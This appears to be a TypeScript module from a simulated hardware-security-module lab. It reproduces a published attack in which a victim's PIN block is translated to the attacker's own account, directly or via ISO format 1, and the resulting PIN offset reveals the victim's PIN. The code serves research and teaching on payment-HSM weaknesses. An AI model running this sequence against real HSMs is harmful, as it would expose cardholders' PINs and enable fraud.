/**
 * Translate and reformat. A PIN block of the victim becomes one of the attacker's own account: by
 * another account number in the request, or through format 1, which has none. The offset for the own
 * account, whose natural PIN the attacker knows from the own PIN, then tells the victim's PIN.
 */
import { attack } from '../attack.js';
import { addDigits, subtractDigits } from '../decimalisation-questions.js';
import { validationDataOf } from '../laboratory.js';

export const reformat = attack({
  name: 'reformat',
  title: 'a PIN block translated to another format or account number',
  source: 'Berkman, Ostrovsky 2007; Clulow 2003',
  roles: ['pinIssuance', 'production'],
  async run({ lab, attacker, say }) {
    const pvk = lab.key('P', { usage: 'PGK' });
    const key = lab.pinKey();
    const tableId = lab.table();
    const victim = lab.customer(1, { pvk, tableId });
    const own = lab.customer(2, { pvk, tableId });
    const ownNatural = subtractDigits(lab.exposePin(own.pan), own.offset);
    const pinBlock = lab.typed({ pin: lab.exposePin(victim.pan), pan: victim.pan, key });
    const iso = (format: 'iso0' | 'iso1') => ({ key, format });
    const moved = await attacker.firstOf([
      async () => {
        const made = await attacker.call('TranslatePinBlock', {
          pinBlock,
          pan: victim.pan,
          newPan: own.pan,
          from: iso('iso0'),
          to: iso('iso0'),
        });
        say("TranslatePinBlock with the attacker's own account number as the new one");
        return made.pinBlock;
      },
      async () => {
        const through = await attacker.call('TranslatePinBlock', {
          pinBlock,
          pan: victim.pan,
          from: iso('iso0'),
          to: iso('iso1'),
        });
        const made = await attacker.call('TranslatePinBlock', {
          pinBlock: through.pinBlock,
          pan: own.pan,
          from: iso('iso1'),
          to: iso('iso0'),
        });
        say('TranslatePinBlock to format 1, which binds no account, and from there to the own one');
        return made.pinBlock;
      },
    ]);
    const { offset } = await attacker.call('CalculateOffset', {
      pinBlock: moved,
      key,
      format: 'iso0',
      pan: own.pan,
      pvk,
      validationData: validationDataOf(own.pan),
      table: tableId,
    });
    say('CalculateOffset for the own account, whose natural PIN is known');
    const pin = addDigits(ownNatural, offset);
    return { obtained: `the PIN ${pin}`, verified: pin === lab.exposePin(victim.pan) };
  },
});
